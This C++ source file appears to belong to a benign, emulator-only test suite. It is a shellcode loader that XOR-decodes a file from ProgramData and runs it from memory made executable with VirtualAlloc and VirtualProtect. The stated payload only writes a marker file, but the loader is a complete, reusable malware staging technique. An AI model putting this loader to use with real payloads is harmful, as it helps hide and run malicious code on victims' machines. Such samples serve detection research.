/*
 * loader.cpp - generality suite: a C++ loader (mingw-w64 g++, libstdc++ linked statically).
 * Benign, emulator-only (see ../../lineage-common/common.h).
 *
 * A PayloadFile object reads C:\ProgramData\ChainreplayDemo\update.dat with std::ifstream into a
 * std::vector; a Decoder first tries the file as a "v2" container, which throws (the file has no
 * such header) and is caught, then XORs it with a 6-byte key (std::transform); an ExecBuffer
 * (RAII: VirtualAlloc RW, copy, VirtualProtect RX, VirtualFree in its destructor) runs it through
 * a std::function. The payload (../../lineage-common/payload.c) writes
 * C:\Users\Public\lineage_cxx.txt. Exit codes: 0 ok, 1 no marker, 2 file, 3 memory, 4 payload.
 */
#include <algorithm>
#include <cstring>
#include <fstream>
#include <functional>
#include <iterator>
#include <stdexcept>
#include <string>
#include <vector>

#include "common.h"

namespace {

const char PAYLOAD_PATH[] = "C:\\ProgramData\\ChainreplayDemo\\update.dat";
const unsigned char KEY[] = {0x5e, 0x91, 0x2c, 0xd7, 0x08, 0xb3};

class PayloadFile {
public:
    explicit PayloadFile(const std::string &path) : path_(path) {}
    std::vector<unsigned char> read() const
    {
        std::ifstream in(path_, std::ios::binary);
        if (!in)
            throw std::runtime_error("cannot open " + path_);
        return std::vector<unsigned char>(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
    }

private:
    std::string path_;
};

struct FormatError : std::runtime_error {
    using std::runtime_error::runtime_error;
};

class Decoder {
public:
    virtual ~Decoder() = default;
    virtual std::vector<unsigned char> decode(const std::vector<unsigned char> &data) const = 0;
};

class V2Decoder : public Decoder {
public:
    std::vector<unsigned char> decode(const std::vector<unsigned char> &data) const override
    {
        if (data.size() < 4 || std::memcmp(data.data(), "CRV2", 4) != 0)
            throw FormatError("not a v2 container");
        return std::vector<unsigned char>(data.begin() + 4, data.end());
    }
};

class XorDecoder : public Decoder {
public:
    std::vector<unsigned char> decode(const std::vector<unsigned char> &data) const override
    {
        std::vector<unsigned char> out(data.size());
        size_t i = 0;
        std::transform(data.begin(), data.end(), out.begin(),
                       [&i](unsigned char b) { return static_cast<unsigned char>(b ^ KEY[i++ % sizeof KEY]); });
        return out;
    }
};

class ExecBuffer {
public:
    explicit ExecBuffer(const std::vector<unsigned char> &code) : size_(code.size())
    {
        mem_ = VirtualAlloc(nullptr, size_, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
        if (!mem_)
            throw std::bad_alloc();
        std::copy(code.begin(), code.end(), static_cast<unsigned char *>(mem_));
        DWORD old = 0;
        VirtualProtect(mem_, size_, PAGE_EXECUTE_READ, &old);
    }
    ~ExecBuffer() { VirtualFree(mem_, 0, MEM_RELEASE); }
    ExecBuffer(const ExecBuffer &) = delete;
    ExecBuffer &operator=(const ExecBuffer &) = delete;
    typedef DWORD(WINAPI *entry_t)(struct sc_ctx *);
    entry_t entry() const { return reinterpret_cast<entry_t>(mem_); }

private:
    void *mem_;
    size_t size_;
};

std::vector<unsigned char> decode_any(const std::vector<unsigned char> &data)
{
    const V2Decoder v2;
    const XorDecoder v1;
    const Decoder *decoders[] = {&v2, &v1};
    for (const Decoder *decoder : decoders) {
        try {
            return decoder->decode(data);
        } catch (const FormatError &) {
            /* the next format */
        }
    }
    throw FormatError("no decoder");
}

} // namespace

int main()
{
    if (!marker_present())
        return 1;
    std::vector<unsigned char> data;
    try {
        data = PayloadFile(PAYLOAD_PATH).read();
    } catch (const std::exception &) {
        return 2;
    }
    std::vector<unsigned char> code = decode_any(data);
    static struct sc_ctx ctx;
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_cxx.txt", "cxx loader payload ran");
    try {
        ExecBuffer exec(code);
        std::function<DWORD(struct sc_ctx *)> entry = exec.entry();
        return entry(&ctx) == 0 ? 0 : 4;
    } catch (const std::bad_alloc &) {
        return 3;
    }
}
